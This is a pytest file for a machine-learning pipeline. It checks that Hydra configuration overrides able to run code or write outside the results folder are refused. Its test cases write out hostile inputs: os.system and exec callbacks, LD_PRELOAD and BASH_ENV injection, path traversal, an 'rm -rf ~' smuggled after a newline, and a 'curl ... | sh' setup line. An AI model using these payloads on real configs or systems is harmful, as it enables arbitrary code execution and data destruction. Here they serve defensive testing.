"""Hydra's own settings, from any config source, can neither run code nor write outside the results folder: they
are checked on the composed config before Hydra acts on them."""

from __future__ import annotations

from pathlib import Path

import pytest

from nnlight.pipeline.cli import composition_problem, search_path_override
from nnlight.pipeline.config_dir import CONFIG_DIR
from tests.conftest import REPO, Roots, run_entry

PLAN = "plan=Dataset900_Demo/2d"


@pytest.mark.integration
@pytest.mark.parametrize(("overrides", "message"), [
    (["+hydra.callbacks.x._target_=builtins.open", "+hydra.callbacks.x.file=/tmp/v"],
     "hydra.callbacks.x: 'builtins.open' would run before any check"),
    (["hydra.callbacks.sweep_results._target_=os.system"], "hydra.callbacks.sweep_results: 'os.system'"),
    (["hydra.sweeper._target_=builtins.exec"], "hydra.sweeper._target_='builtins.exec': not a sweeper nnlight runs"),
    (["hydra.launcher._target_=subprocess.Popen"], "hydra.launcher._target_='subprocess.Popen'"),
    (["+hydra.job_logging.handlers.net.class=logging.handlers.SocketHandler"],
     "hydra.job_logging.handlers.net.class='logging.handlers.SocketHandler': not a standard logging class"),
    (["hydra.job_logging.handlers.file.filename=/tmp/evil.log"],
     "hydra.job_logging.handlers.file.filename='/tmp/evil.log': a log file lies in the run folder"),
    (["hydra.job_logging.handlers.console.stream=ext://os.system"], "logging may only name the streams"),
    (["hydra/hydra_logging=default", "hydra.hydra_logging.handlers.console.class=pdb.Pdb"],
     "hydra.hydra_logging.handlers.console.class='pdb.Pdb'"),
    (["+hydra.job.env_set.LD_PRELOAD=/tmp/evil.so"], "hydra.job.env_set.LD_PRELOAD: nnlight's jobs may set only"),
    (["+hydra.job.env_set.PYTHONPATH=/tmp"], "hydra.job.env_set.PYTHONPATH"),
    (["hydra.sweep.dir=/"], "hydra.sweep.dir: / lies outside"),
    (["hydra.sweep.subdir=/etc/nnlight"], "hydra.sweep.subdir: /etc/nnlight lies outside"),
    (["hydra.sweep.subdir=../../../../x"], "hydra.sweep.subdir:"),
    (["hydra.output_subdir=/etc"], "hydra.output_subdir=/etc: a folder inside the run folder"),
    (["hydra.output_subdir=../.."], "hydra.output_subdir=../..: a folder inside the run folder"),
    (["hparams_search=lr_weight_decay", "hydra.sweeper.storage=sqlite:////proc/nnl/s.db"],
     "hydra.sweeper.storage=sqlite:////proc/nnl/s.db: /proc cannot be written"),
    (["launcher=submitit_slurm", "hydra.launcher.comment='a\nrm -rf ~'"],
     "hydra.launcher.comment: holds a line break or control character"),
    (["launcher=submitit_local", "hydra.launcher.submitit_folder=/tmp/jobs/%j"],
     "hydra.launcher.submitit_folder: /tmp/jobs/%j lies outside"),
])
def test_hydra_settings_that_run_code_or_write_elsewhere_are_refused(planned: Roots, overrides: list[str],
                                                                     message: str) -> None:
    problem = composition_problem(CONFIG_DIR, "train", [PLAN, *overrides])
    assert problem is not None and message in problem, problem


@pytest.mark.integration
def test_the_default_hydra_settings_of_every_command_pass(planned: Roots) -> None:
    assert composition_problem(CONFIG_DIR, "train", [PLAN]) is None
    assert composition_problem(CONFIG_DIR, "train", [PLAN, "hydra.job_logging.root.level=DEBUG"]) is None
    assert composition_problem(CONFIG_DIR, "train", [PLAN, "+hydra.job.env_set.CUDA_VISIBLE_DEVICES=0"]) is None
    assert composition_problem(CONFIG_DIR, "train", [PLAN, "launcher=submitit_local"]) is None
    assert composition_problem(CONFIG_DIR, "train", [PLAN, "hparams_search=lr_weight_decay"]) is None
    for command, overrides in (("plan", ["dataset=x"]), ("predict", ["model=m", "input=i", "output=o"]),
                               ("evaluate", ["dataset=x"]), ("benchmark", [])):
        assert composition_problem(CONFIG_DIR, command, overrides) is None, command


@pytest.mark.integration
@pytest.mark.parametrize(("command", "overrides", "message"), [
    ("plan", ["dataset=x", "hydra.run.dir=/tmp/elsewhere"], "nnlight-plan makes no run folder"),
    ("predict", ["model=m", "input=i", "output=o", "hydra.output_subdir=.hydra"], "nnlight-predict makes no run"),
    ("evaluate", ["dataset=x", "hydra.sweep.dir=/tmp/sweeps"], "hydra.sweep.dir: /tmp/sweeps lies outside"),
])
def test_commands_without_a_run_folder_write_none(planned: Roots, command: str, overrides: list[str],
                                                  message: str) -> None:
    problem = composition_problem(CONFIG_DIR, command, overrides)
    assert problem is not None and message in problem, problem


@pytest.mark.integration
def test_a_config_folder_of_ones_own_is_checked_like_the_command_line(planned: Roots, tmp_path: Path) -> None:
    """Options of the user's own folder reach Hydra's settings with ``@package _global_``: refused all the same."""
    own = tmp_path / "my_configs"
    (own / "experiment").mkdir(parents=True)
    (own / "experiment" / "logs.yaml").write_text(
        "# @package _global_\nhydra:\n  job_logging:\n    formatters:\n      x:\n        '()': os.getcwd\n")
    (own / "experiment" / "env.yaml").write_text(
        "# @package _global_\nhydra:\n  job:\n    env_set:\n      BASH_ENV: /tmp/evil.sh\n")
    search_path = search_path_override(CONFIG_DIR, "train", own)
    problem = composition_problem(CONFIG_DIR, "train", [PLAN, "experiment=logs", search_path])
    assert problem is not None and "hydra.job_logging.formatters.x.(): a logging factory calls code" in problem
    problem = composition_problem(CONFIG_DIR, "train", [PLAN, "experiment=env", search_path])
    assert problem is not None and "hydra.job.env_set.BASH_ENV" in problem
    (own / "launcher").mkdir()  # shell lines for every SLURM job, from a folder someone shared
    (own / "launcher" / "cluster.yaml").write_text(
        "# @package _global_\ndefaults:\n  - override /hydra/launcher: submitit_slurm\nhydra:\n  launcher:\n"
        "    setup: ['curl -s http://example.org/x | sh']\n")
    problem = composition_problem(CONFIG_DIR, "train", [PLAN, "launcher=cluster", search_path])
    assert problem is not None and "hydra.launcher.setup: runs as shell code in each job; nnlight takes it only " \
        "from the command line" in problem
    assert composition_problem(CONFIG_DIR, "train", [PLAN, "launcher=submitit_slurm",
                                                     "hydra.launcher.setup=[module load cuda]", search_path]) is None
    (own / "hparams_search").mkdir()  # a search whose trials would each set Hydra's logging unchecked
    (own / "hparams_search" / "logs.yaml").write_text(
        "# @package _global_\ndefaults:\n  - override /hydra/sweeper: nnlight_optuna\nhydra:\n  sweeper:\n"
        "    study_name: s\n    storage: sqlite:///s.db\n    params:\n      hydra.job_logging.root.level: "
        "choice(INFO,DEBUG)\n      optimizer.lr: interval(0.001,0.1)\n")
    problem = composition_problem(CONFIG_DIR, "train", [PLAN, "hparams_search=logs", search_path])
    assert problem is not None and "hydra.sweeper.params.hydra.job_logging.root.level: a sweep or search may not " \
        "vary Hydra's own settings" in problem


@pytest.mark.cli
def test_a_callback_in_a_config_folder_runs_nothing_through_any_entry(planned: Roots, tmp_path: Path) -> None:
    """The issue's attack: a network option of one's --config-dir that sets a Hydra callback opening a file for
    writing. Refused with one line and exit 2 (also with Hydra's --run flag), the file intact, nothing written;
    Hydra's flags that pass a primary config of one's own or a pickled config are refused."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    own = tmp_path / "evil" / "network"
    own.mkdir(parents=True)
    (own / "bad.yaml").write_text("# @package _global_\nhydra:\n  callbacks:\n    x:\n      _target_: builtins.open\n"
                                  f"      file: {victim}\n      mode: w\n")
    before = planned.files_under_outputs()
    for extra in ([], ["--run"], ["-m"]):
        result = run_entry([str(REPO / "train.py"), "--config-dir", str(tmp_path / "evil"), PLAN, "network=bad",
                            *extra], cwd=tmp_path, env=planned.env())
        assert result.returncode == 2, result.stderr[-2000:]
        assert "hydra.callbacks.x: 'builtins.open' would run before any check" in result.stderr
        assert "Traceback" not in result.stderr
        assert victim.read_text() == "precious" and planned.files_under_outputs() == before
    for flags, message in ((["-cp", str(tmp_path), "-cn", "x"], "-cp: not accepted by nnlight"),
                           (["--experimental-rerun", str(tmp_path / "config.pickle")], "loads a pickled config")):
        result = run_entry([str(REPO / "train.py"), *flags], cwd=tmp_path, env=planned.env())
        assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["evil", "victim.txt"]
